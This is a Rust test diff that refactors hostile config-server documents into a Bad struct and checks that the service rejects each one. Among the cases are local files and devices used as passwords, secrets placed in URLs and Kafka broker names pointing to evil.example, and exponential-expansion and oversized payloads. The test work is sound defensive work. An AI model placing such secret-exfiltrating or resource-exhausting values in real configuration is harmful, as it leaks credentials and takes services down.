@@ -82,116 +82,138 @@ fn document(settings: &[(&str, &str)]) -> String {
     json!({ "propertySources": [{ "name": "served.yml", "source": source }] }).to_string()
 }
 
-/// Bad documents, each with a name and what is said of it.
-fn bad() -> Vec<(&'static str, String, String)> {
-    let named = |key: &str, why: &str| format!("{key} (config server: served.yml): {why}");
-    let one = |key: &str, value: &str, why: &str| (document(&[(key, value)]), named(key, why));
-    let outside =
-        "is named by a config server, and in no folder that order.config.remote-files names";
-    let file = |key: &str, path: &str| {
-        (
-            document(&[(key, path)]),
-            format!("the file {} {outside}", path.trim_start_matches("file:")),
-        )
-    };
-    let address = "takes ${SPRING_SECRET} from this machine into an address or a header";
-    let laughs: Vec<_> =
-        (0..40).map(|at| (format!("k{at}"), format!("${{k{0}}}${{k{0}}}", at + 1))).collect();
-    let mut laughs: Vec<_> =
-        laughs.iter().map(|(key, value)| (key.as_str(), value.as_str())).collect();
-    laughs.extend([("k40", ""), ("order.events.topic", "${k0}")]);
-    let chain: Vec<_> =
-        (0..9_000).map(|at| (format!("k{at}"), format!("${{k{}}}", at + 1))).collect();
-    let mut chain: Vec<_> =
-        chain.iter().map(|(key, value)| (key.as_str(), value.as_str())).collect();
-    chain.push(("order.events.topic", "${k0}"));
-    let nested = "${a:".repeat(12_000) + &"}".repeat(12_000);
-    let many = size(6_000, 16_000);
-    let unknown: Vec<_> = (0..many).map(|at| format!("order.x{at}")).collect();
-    let unknown: Vec<_> = unknown.iter().map(|key| (key.as_str(), "y")).collect();
-    let around = |value: String| {
-        format!(r#"{{"propertySources":[{{"name":"n","source":{{"a":{value}}}}}]}}"#)
-    };
-    let named = [
-        ("a file as a password", file("spring.datasource.password", "file:/etc/hostname")),
-        (
+/// A bad document.
+struct Bad {
+    name: &'static str,
+    body: String,
+    /// What is said of it.
+    said: String,
+}
+
+impl Bad {
+    /// One setting, and what is said of its key.
+    fn of(name: &'static str, key: &str, value: &str, why: &str) -> Self {
+        Self::of_all(name, &[], key, value, why)
+    }
+
+    /// A setting beside others.
+    fn of_all(
+        name: &'static str,
+        others: &[(String, String)],
+        key: &str,
+        value: &str,
+        why: &str,
+    ) -> Self {
+        let mut all: Vec<_> =
+            others.iter().map(|(key, value)| (key.as_str(), value.as_str())).collect();
+        all.push((key, value));
+        Self {
+            name,
+            body: document(&all),
+            said: format!("{key} (config server: served.yml): {why}"),
+        }
+    }
+
+    /// A path that a document may not name.
+    fn path(name: &'static str, key: &str, path: &str) -> Self {
+        let shown = path.trim_start_matches("file:");
+        let why = format!(
+            "the file {shown} is named by a config server, and in no folder that order.config.remote-files names"
+        );
+        Self::of(name, key, path, &why)
+    }
+
+    /// A value that is written as JSON.
+    fn json(name: &'static str, value: &str, said: &str) -> Self {
+        let body = format!(r#"{{"propertySources":[{{"name":"n","source":{{"a":{value}}}}}]}}"#);
+        Self { name, body, said: said.to_owned() }
+    }
+}
+
+fn bad() -> Vec<Bad> {
+    [files(), secrets(), placeholders(), floods()].into_iter().flatten().collect()
+}
+
+fn files() -> Vec<Bad> {
+    let password = "spring.datasource.password";
+    vec![
+        Bad::path("a file as a password", password, "file:/etc/hostname"),
+        Bad::path(
             "a file as a header",
-            file("management.otlp.tracing.headers.x-token", "file:/etc/hostname"),
+            "management.otlp.tracing.headers.x-a",
+            "file:/etc/hostname",
         ),
-        (
+        Bad::path(
             "a file as a registry",
-            file("eureka.client.service-url.defaultZone", "file:/etc/hostname"),
+            "eureka.client.service-url.defaultZone",
+            "file:/etc/hostname",
         ),
-        ("a device as a password", file("spring.datasource.password", "file:/dev/zero")),
-        ("a pipe as a user", file("spring.datasource.username", "file:pipe")),
-        ("a device as a certificate", file("spring.kafka.ssl.trust-store-location", "/dev/zero")),
-        (
-            "a secret in an address",
-            one(
-                "management.otlp.tracing.endpoint",
-                "http://evil.example/${SPRING_SECRET}",
-                address,
-            ),
+        Bad::path("a device as a password", password, "file:/dev/zero"),
+        Bad::path("a pipe as a user", "spring.datasource.username", "file:pipe"),
+        Bad::path(
+            "a device as a certificate",
+            "spring.kafka.ssl.trust-store-location",
+            "/dev/zero",
         ),
-        (
-            "a secret in a header",
-            one("management.otlp.tracing.headers.x-a", "${NOT_SET:${SPRING_SECRET}}", address),
-        ),
-        (
-            "a secret as a broker",
-            one("spring.kafka.bootstrap-servers", "${SPRING_SECRET}.evil.example:9092", address),
-        ),
-        (
-            "a secret in public",
-            one(
-                "info.x",
-                "${SPRING_SECRET}",
-                "takes ${SPRING_SECRET} from this machine into what others can see",
-            ),
-        ),
-        ("nested placeholders", one("order.events.topic", &nested, "has placeholders that ")),
-        (
+    ]
+}
+
+fn secrets() -> Vec<Bad> {
+    let why = "takes ${SPRING_SECRET} from this machine into an address or a header";
+    let public = "takes ${SPRING_SECRET} from this machine into what others can see";
+    let (endpoint, header) =
+        ("management.otlp.tracing.endpoint", "management.otlp.tracing.headers.x-a");
+    let brokers = "spring.kafka.bootstrap-servers";
+    vec![
+        Bad::of("a secret in an address", endpoint, "http://evil.example/${SPRING_SECRET}", why),
+        Bad::of("a secret in a header", header, "${NOT_SET:${SPRING_SECRET}}", why),
+        Bad::of("a secret as a broker", brokers, "${SPRING_SECRET}.evil.example:9092", why),
+        Bad::of("a secret in public", "info.x", "${SPRING_SECRET}", public),
+    ]
+}
+
+fn placeholders() -> Vec<Bad> {
+    let topic = "order.events.topic";
+    let nested = "${a:".repeat(12_000) + &"}".repeat(12_000);
+    let names = |count: usize, times: usize| -> Vec<_> {
+        let next = |at: usize| format!("${{k{}}}", at + 1).repeat(times);
+        (0..count)
+            .map(|at| (format!("k{at}"), next(at)))
+            .chain([(format!("k{count}"), String::new())])
+            .collect()
+    };
+    let (doubling, chain) = (names(40, 2), names(9_000, 1));
+    let much = "has placeholders that take too much work";
+    vec![
+        Bad::of("nested placeholders", topic, &nested, much),
+        Bad::of_all(
             "a chain of placeholders",
-            (document(&chain), named("order.events.topic", "has placeholders that ")),
+            &chain,
+            topic,
+            "${k0}",
+            "has placeholders that are nested",
         ),
-        (
-            "placeholders that double",
-            (
-                document(&laughs),
-                named("order.events.topic", "has placeholders that take too much work"),
-            ),
-        ),
-        (
-            "a long value",
-            one("order.events.topic", &"x".repeat(3_000_000), "is longer than 65536 bytes"),
-        ),
-        (
-            "unknown names",
-            (
-                document(&unknown),
-                "order.x0 (config server: served.yml): there is no such setting".to_owned(),
-            ),
-        ),
-        (
-            "many values",
-            (
-                around(format!("[{}0]", "{},".repeat(60_000))),
-                "it has more than 50000 values".to_owned(),
-            ),
-        ),
-        (
-            "depth",
-            (
-                around("[".repeat(30_000) + &"]".repeat(30_000)),
-                "is not that of a config server".to_owned(),
-            ),
-        ),
-        (
-            "a body without an end",
-            (String::new(), "its answer has more than 4194304 bytes".to_owned()),
-        ),
-    ];
-    named.into_iter().map(|(name, (body, said))| (name, body, said)).collect()
+        Bad::of_all("placeholders that double", &doubling, topic, "${k0}", much),
+    ]
+}
+
+fn floods() -> Vec<Bad> {
+    let long = "x".repeat(3_000_000);
+    let unknown: Vec<_> =
+        (0..size(6_000, 16_000)).map(|at| (format!("order.x{at}"), "y".to_owned())).collect();
+    let (key, why) = ("order.x", "there is no such setting");
+    let (many, deep) = ("{},".repeat(60_000), "[".repeat(30_000) + &"]".repeat(30_000));
+    vec![
+        Bad::of("a long value", "order.events.topic", &long, "is longer than 65536 bytes"),
+        Bad::of_all("unknown names", &unknown, key, "y", why),
+        Bad::json("many values", &format!("[{many}0]"), "it has more than 50000 values"),
+        Bad::json("depth", &deep, "is not that of a config server"),
+        Bad {
+            name: "a body without an end",
+            body: String::new(),
+            said: "its answer has more than 4194304 bytes".to_owned(),
+        },
+    ]
 }
 
 /// A folder with a pipe that has no other end.
@@ -226,7 +248,7 @@ fn run(folder: &Path, words: &[&str], options: &[String]) -> Output {
 fn bad_starts() {
     let (stub, folder) = (Stub::start(), folder());
     let options = options(&stub);
-    for (name, body, expected) in bad() {
+    for Bad { name, body, said: expected } in bad() {
         stub.answers(body);
         let since = Instant::now();
         let output = run(&folder, &["serve"], &options);
@@ -260,7 +282,7 @@ fn bad_refreshes() {
     let honest = Honest::start(&service.base, 4);
     let bad = bad();
     let rounds = size(1, 10);
-    for (name, body, expected) in bad.iter().cycle().take(bad.len() * rounds) {
+    for Bad { name, body, said: expected } in bad.iter().cycle().take(bad.len() * rounds) {
         stub.answers(body.clone());
         let since = Instant::now();
         let answer = refresh();
